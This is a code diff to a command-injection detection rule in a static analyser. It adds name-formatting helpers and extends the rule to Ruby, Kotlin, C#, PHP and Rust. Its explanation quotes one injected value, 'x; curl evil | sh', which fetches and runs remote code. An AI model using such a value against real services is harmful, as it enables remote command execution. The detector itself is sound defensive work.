@@ -31,18 +31,18 @@ def check(view: FileView) -> Iterator[Site]:
     if view.module is None:
         return
     for start in process_starts(view.flow):
-        yield view.site(m.statement_of(start.call), _defect(view, start))
+        yield view.site(m.statement_of(start.at or start.call), _defect(view, start))
 
 
 def _defect(view: FileView, start: Start) -> Defect | None:
-    written = m.dotted(start.call.callee) or "this call"
+    written = _written(start.call)
     if start.shell_text is not None:
         text = view.flow.value(start.shell_text)
         if not text.dynamic or _quoted(text):
             return None
         came = f" It carries {text.taint.what}." if text.taint is not None else ""
         return Defect(
-            f"`{written}` runs a shell on text with a part that is not constant.{came}",
+            f"{_code(written)} runs a shell on text with a part that is not constant.{came}",
             fix=_fix(view.language),
             evidence=_evidence(view, start.call, text),
         )
@@ -51,7 +51,7 @@ def _defect(view: FileView, start: Start) -> Defect | None:
         if line.dynamic and line.built and not _quoted(line):
             came = f" It carries {line.taint.what}." if line.taint is not None else ""
             return Defect(
-                f"`{written}` splits its text at spaces into program and arguments, and a part of it is not constant.{came}",
+                f"{_code(written)} splits its text at spaces into program and arguments, and a part of it is not constant.{came}",
                 fix=_fix(view.language),
                 evidence=_evidence(view, start.call, line),
             )
@@ -74,6 +74,17 @@ def _quoted(value: Value) -> bool:
     return any(name.rpartition(".")[2] in _QUOTES for name in value.through)
 
 
+def _code(name: str) -> str:
+    return name if " " in name else f"`{name}`"
+
+
+def _written(node: m.Node) -> str:
+    if isinstance(node, m.Call):
+        name = m.dotted(node.callee)
+        return "A command in backticks" if name == "`" else name or "this call"
+    return "ProcessStartInfo"
+
+
 _FIXES = {
     "python": 'Pass a list without a shell: `subprocess.run(["tool", value], check=True)`; where a shell must be, `shlex.quote(value)`.',
     "javascript": "Call the program itself: `execFile('tool', [value])`, without `shell: true`.",
@@ -91,7 +102,7 @@ def _fix(language: str) -> str:
     return _FIXES.get(reported(language), _FIXES["javascript"])
 
 
-def _evidence(view: FileView, call: m.Call, value: Value) -> tuple[Evidence, ...]:
+def _evidence(view: FileView, call: m.Node, value: Value) -> tuple[Evidence, ...]:
     statement = m.statement_of(call)
     return tuple(
         Evidence(view.path, node.line, "the text is put together here")
@@ -103,7 +114,7 @@ def _evidence(view: FileView, call: m.Call, value: Value) -> tuple[Evidence, ...
 RULE = Rule(
     id="security/command-injection",
     severity=Severity.ERROR,
-    languages=("python", "javascript", "typescript", "go", "java"),
+    languages=("python", "javascript", "typescript", "go", "java", "ruby", "kotlin", "csharp", "php", "rust"),
     title="Shell command built from values",
     what="Text that is not constant and reaches a shell (`shell=True`, `os.system`, `exec`, `sh -c`), or a request that chooses the program to start.",
     why="A value such as `x; curl evil | sh` becomes a second command that runs with the rights of this service.",
